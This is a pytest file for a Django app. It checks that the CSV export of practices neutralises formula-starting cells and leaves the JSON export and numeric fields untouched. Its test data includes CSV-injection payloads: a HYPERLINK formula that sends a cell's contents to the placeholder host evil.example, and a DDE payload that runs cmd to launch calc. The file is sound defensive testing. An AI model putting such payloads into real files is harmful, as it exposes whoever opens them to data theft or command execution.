"""The CSV download never hands a spreadsheet a formula: cells that would start one are neutralised."""

import csv
import io
import json

import pytest

pytestmark = pytest.mark.django_db


def _rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("title", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Ordinary title", "Ordinary title"),
    ],
)
def test_formula_cells_are_neutralised(api_client, make_practice, title, cell):
    make_practice(title_en=title, published=True)
    [row] = _rows(api_client.get("/api/v1/practices/export.csv"))
    assert row["title_en"] == cell


def test_numbers_and_the_json_export_are_left_as_they_are(api_client, make_practice):
    make_practice(title_en="=1+1", budget_gel="-5.50", published=True)
    [row] = _rows(api_client.get("/api/v1/practices/export.csv"))
    assert row["budget_gel"] == "-5.50"
    [item] = json.loads(b"".join(api_client.get("/api/v1/practices/export.json").streaming_content))
    assert item["title_en"] == "=1+1"
